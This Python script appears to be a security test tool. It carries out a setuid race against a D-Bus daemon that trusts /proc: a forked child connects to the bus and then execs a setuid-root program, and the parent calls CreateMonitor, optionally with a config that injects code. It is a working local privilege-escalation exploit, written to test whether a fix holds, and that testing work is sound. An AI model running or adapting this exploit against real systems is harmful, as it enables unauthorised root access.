#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""The setuid race against a daemon that trusts /proc: run as an unprivileged user, it makes one
D-Bus call on a connection whose recorded process has, by the time the call arrives, become a
setuid-root program.

  setuid_race.py BUS_SOCKET MONITOR_NAME SETUID_PROGRAM [--config JSON] [--timeout S]

How: a child process P connects to the bus socket (so the bus records P's pid for the
connection) and execs SETUID_PROGRAM (e.g. /usr/bin/passwd), which then blocks reading a
password from a pipe that we hold. We, P's parent, share the connected socket: once /proc/P
says euid 0, we authenticate, say Hello, check that the bus names P as our connection's process,
and call Manager.CreateMonitor(MONITOR_NAME, {}) ({"config": JSON} with --config). A daemon that reads the caller's euid or
capabilities from /proc/<pid> at that moment (sd-bus "augmented" credentials) sees root. Then we
close the pipe (the program reads EOF and exits) and reap P; P is killed, by its pid, only if it
outlives the grace period. Nothing else is touched.

Prints one line on stdout: the D-Bus error name of the reply, or "<no error>" if the call
succeeded. Exits 0 when it got a reply with the race in place, 2 when the race could not be set
up (no setuid program, the bus did not record P, /proc never said euid 0, a timeout): the caller
must treat that as a failure, never as a pass. Diagnostics go to stderr.
"""
import argparse
import os
import select
import signal
import socket
import stat
import struct
import sys
import time

# D-Bus message types and header fields (the specification's numbers).
METHOD_CALL, METHOD_RETURN, ERROR = 1, 2, 3
FIELD_PATH, FIELD_INTERFACE, FIELD_MEMBER, FIELD_ERROR_NAME = 1, 2, 3, 4
FIELD_REPLY_SERIAL, FIELD_DESTINATION, FIELD_SIGNATURE = 5, 6, 8
GRACE_SECONDS = 5


class RaceError(Exception):
    """The race could not be set up: the run proves nothing."""


def log(msg):
    print(f"setuid_race: {msg}", file=sys.stderr, flush=True)


# ---- the wire format, just enough of it (little-endian, as we send it) -----------------------


def pad(data, align):
    return data + b"\0" * (-len(data) % align)


def wire_string(s):
    e = s.encode()
    return struct.pack("<I", len(e)) + e + b"\0"


def wire_signature(s):
    e = s.encode()
    return struct.pack("<B", len(e)) + e + b"\0"


def message(serial, dest, path, iface, member, sig="", body=b""):
    fields = b""
    for code, typ, value in ((FIELD_PATH, "o", path), (FIELD_INTERFACE, "s", iface),
                             (FIELD_MEMBER, "s", member), (FIELD_DESTINATION, "s", dest),
                             (FIELD_SIGNATURE, "g", sig)):
        if not value:
            continue
        enc = wire_signature(value) if typ == "g" else wire_string(value)
        fields = pad(fields, 8) + struct.pack("<B", code) + wire_signature(typ) + enc
    head = struct.pack("<cBBBIII", b"l", METHOD_CALL, 0, 1, len(body), serial, len(fields))
    return pad(head + fields, 8) + body


def parse_fields(buf):
    """Header fields we read back: strings, object paths, signatures and uint32."""
    fields, off = {}, 0
    while off < len(buf):
        off += -off % 8
        code, siglen = buf[off], buf[off + 1]
        typ = buf[off + 2:off + 2 + siglen].decode()
        off += 3 + siglen
        if typ == "g":
            n = buf[off]
            fields[code] = buf[off + 1:off + 1 + n].decode()
            off += 2 + n
        elif typ in ("s", "o"):
            off += -off % 4
            (n,) = struct.unpack_from("<I", buf, off)
            fields[code] = buf[off + 4:off + 4 + n].decode()
            off += 5 + n
        elif typ == "u":
            off += -off % 4
            (fields[code],) = struct.unpack_from("<I", buf, off)
            off += 4
        else:
            raise RaceError(f"unexpected header field type {typ!r}")
    return fields


class Connection:
    def __init__(self, sock, deadline):
        self.sock, self.deadline, self.buf, self.serial = sock, deadline, b"", 0

    def _recv(self):
        left = self.deadline - time.monotonic()
        if left <= 0:
            raise RaceError("timed out waiting for the bus")
        self.sock.settimeout(left)
        try:
            data = self.sock.recv(65536)
        except socket.timeout:
            raise RaceError("timed out waiting for the bus") from None
        if not data:
            raise RaceError("the bus closed the connection")
        self.buf += data

    def _take(self, n):
        while len(self.buf) < n:
            self._recv()
        data, self.buf = self.buf[:n], self.buf[n:]
        return data

    def auth(self):
        # The nul byte first, then SASL EXTERNAL with our uid: the bus checks it against the
        # socket's peer credentials, i.e. P's uid at connect() time, which is ours.
        uid = str(os.getuid()).encode().hex()
        self.sock.sendall(b"\0AUTH EXTERNAL " + uid.encode() + b"\r\n")
        while b"\r\n" not in self.buf:
            self._recv()
        line, self.buf = self.buf.split(b"\r\n", 1)
        if not line.startswith(b"OK "):
            raise RaceError(f"authentication refused: {line!r}")
        self.sock.sendall(b"BEGIN\r\n")

    def read_message(self):
        head = self._take(16)
        if head[:1] != b"l":
            raise RaceError("the bus answered in big-endian; not handled")
        mtype, _, _, body_len, _, fields_len = struct.unpack("<xBBBIII", head)
        rest = self._take(fields_len + (-fields_len % 8) + body_len)
        return mtype, parse_fields(rest[:fields_len]), rest[len(rest) - body_len:]

    def call(self, dest, path, iface, member, sig="", body=b""):
        """Sends a method call and returns (type, fields, body) of its reply; signals such as
        NameAcquired that arrive meanwhile are dropped."""
        self.serial += 1
        self.sock.sendall(message(self.serial, dest, path, iface, member, sig, body))
        while True:
            mtype, fields, rbody = self.read_message()
            if mtype in (METHOD_RETURN, ERROR) and fields.get(FIELD_REPLY_SERIAL) == self.serial:
                return mtype, fields, rbody

    def bus_call(self, member, sig="", body=b""):
        mtype, fields, rbody = self.call("org.freedesktop.DBus", "/org/freedesktop/DBus",
                                         "org.freedesktop.DBus", member, sig, body)
        if mtype == ERROR:
            raise RaceError(f"{member} failed: {fields.get(FIELD_ERROR_NAME)}")
        return rbody


# ---- the race --------------------------------------------------------------------------------


def check_setuid_root(prog):
    try:
        st = os.stat(prog)
    except OSError as e:
        raise RaceError(f"{prog}: {e.strerror} (Debian package passwd)") from None
    if st.st_uid != 0 or not st.st_mode & stat.S_ISUID:
        raise RaceError(f"{prog} is not setuid root (uid {st.st_uid}, mode {st.st_mode:o})")


def start_setuid_child(sock, bus_path, prog, stdin_r):
    """Forks P: it connects the shared socket and execs prog with stdin_r as its stdin. Returns
    P's pid once the exec has happened (a close-on-exec pipe reaches EOF); raises if it did not."""
    status_r, status_w = os.pipe()  # both close-on-exec
    pid = os.fork()
    if pid == 0:
        try:
            sock.connect(bus_path)
            os.dup2(stdin_r, 0)
            os.dup2(2, 1)  # the program's prompts go to our stderr, not our one-line result
            os.execv(prog, [prog])
        except BaseException as e:  # never return into the parent's code
            os.write(status_w, f"{e}".encode() or b"error")
        os._exit(127)
    os.close(status_w)
    try:
        if not select.select([status_r], [], [], 10)[0]:
            raise RaceError("the child neither exec'd nor failed within 10 s")
        err = os.read(status_r, 4096)
    finally:
        os.close(status_r)
    if err:
        os.waitpid(pid, 0)
        raise RaceError(f"the child could not connect and exec {prog}: {err.decode()}")
    return pid


def wait_euid_root(pid, deadline):
    """Polls /proc/PID/status (world-readable) until its effective uid is 0."""
    while time.monotonic() < deadline:
        with open(f"/proc/{pid}/status") as f:
            uids = next(line for line in f if line.startswith("Uid:")).split()
        if uids[2] == "0":
            log(f"/proc/{pid}/status now says Uid {' '.join(uids[1:])}")
            return
        time.sleep(0.01)
    raise RaceError(f"/proc/{pid}/status never showed euid 0")


def create_monitor_args(name, config):
    """CreateMonitor(s name, a{sv} options): options empty, or {"config": <config>} (which
    asks for more than creating: injecting code). The dict's length is followed by the padding
    to its entries' 8-byte alignment even when there are none."""
    head = pad(wire_string(name), 4) + struct.pack("<I", 0)
    start = len(pad(head, 8))
    entries = b""
    if config is not None:
        entries = wire_string("config") + wire_signature("s")
        entries += b"\0" * (-(start + len(entries)) % 4) + wire_string(config)
    return pad(head[:-4] + struct.pack("<I", len(entries)), 8) + entries


def race(conn, pid, name, config):
    conn.auth()
    body = conn.bus_call("Hello")
    unique = body[4:4 + struct.unpack_from("<I", body)[0]].decode()
    body = conn.bus_call("GetConnectionUnixProcessID", "s", wire_string(unique))
    (bus_pid,) = struct.unpack_from("<I", body)
    if bus_pid != pid:
        raise RaceError(f"the bus says {unique} is pid {bus_pid}, not the setuid child {pid}")
    log(f"the bus says {unique} is pid {pid}, the setuid program")
    args = create_monitor_args(name, config)
    mtype, fields, _ = conn.call("org.polycube.Dynmon", "/org/polycube/Dynmon",
                                 "org.polycube.Dynmon.Manager", "CreateMonitor", "sa{sv}", args)
    return fields.get(FIELD_ERROR_NAME, "<unnamed error>") if mtype == ERROR else "<no error>"


def reap(pid):
    """Waits for P after its stdin was closed; kills it, by pid, if it lingers."""
    end = time.monotonic() + GRACE_SECONDS
    while time.monotonic() < end:
        if os.waitpid(pid, os.WNOHANG)[0] == pid:
            return
        time.sleep(0.05)
    log(f"pid {pid} still runs after {GRACE_SECONDS} s: killing it")
    os.kill(pid, signal.SIGKILL)  # allowed: its real uid is still ours
    os.waitpid(pid, 0)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("bus_socket")
    ap.add_argument("monitor_name")
    ap.add_argument("setuid_program")
    ap.add_argument("--config", help="CreateMonitor's config option (JSON text)")
    ap.add_argument("--timeout", type=float, default=20.0, help="for the whole run, in seconds")
    args = ap.parse_args()
    deadline = time.monotonic() + args.timeout
    # A SIGTERM (the test runner's timeout) unwinds through the finally below, like an error.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))

    pid = stdin_w = None
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        check_setuid_root(args.setuid_program)
        stdin_r, stdin_w = os.pipe()  # the program waits on stdin_r for as long as we hold stdin_w
        try:
            pid = start_setuid_child(sock, args.bus_socket, args.setuid_program, stdin_r)
        finally:
            os.close(stdin_r)
        wait_euid_root(pid, deadline)
        result = race(Connection(sock, deadline), pid, args.monitor_name, args.config)
        print(result, flush=True)
        return 0
    except (RaceError, OSError) as e:
        log(f"FAILED to set up the race: {e}")
        return 2
    finally:
        sock.close()
        if stdin_w is not None:
            os.close(stdin_w)  # EOF: the program gives up and exits
        if pid is not None:
            reap(pid)


if __name__ == "__main__":
    sys.exit(main())
